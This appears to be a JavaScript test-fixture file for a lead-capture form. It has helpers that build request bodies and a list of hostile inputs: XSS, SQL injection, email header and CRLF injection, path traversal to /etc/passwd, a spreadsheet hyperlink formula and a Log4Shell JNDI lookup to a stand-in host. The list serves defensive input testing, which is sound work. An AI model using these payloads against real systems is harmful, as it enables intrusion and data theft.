/** The fields of a valid lead. */
export const good = { firstName: 'Eve', phone: '(303) 555-0100', message: 'Two rooms' };
export const form = 'application/x-www-form-urlencoded';
export const json = 'application/json';
export const urlencoded = (fields) => Buffer.from(new URLSearchParams(fields).toString());
export const asJson = (fields) => Buffer.from(JSON.stringify(fields));
const headersOf = (name, filename) => {
  const field = `Content-Disposition: form-data; name="${name}"`;
  return filename ? `${field}; filename="${filename}"\r\nContent-Type: image/jpeg` : field;
};
export const multipart = (parts, boundary = 'b0undary') => ({
  type: `multipart/form-data; boundary=${boundary}`,
  body: Buffer.concat([
    ...parts.flatMap(({ name, value, filename }) => [
      Buffer.from(`--${boundary}\r\n${headersOf(name, filename)}\r\n\r\n`),
      Buffer.from(value),
      Buffer.from('\r\n'),
    ]),
    Buffer.from(`--${boundary}--\r\n`),
  ]),
});
export const parts = (fields) => Object.entries(fields).map(([name, value]) => ({ name, value }));

/** Texts that a careless program would run, mail, log or show as something else. */
export const hostileTexts = [
  'A\r\nBcc: eve@example.com\r\n\r\nbody',
  'A\nSubject: other',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; drop table leads; --",
  '1 or 1=1',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '=HYPERLINK("http://evil.example")',
  '@SUM(A1)',
  '\u0000\u0001\u001b[2J\u0007',
  '\u202egpj.exe',
  '\u2066\u2069\ufeff',
  '%0d%0aSet-Cookie: a=b',
  '../../etc/passwd',
  'javascript:alert(1)',
  '😀'.repeat(50),
  'e\u0301'.repeat(40),
  '\ud800',
  '${jndi:ldap://evil.example}',
  '\u2028\u2029line',
];
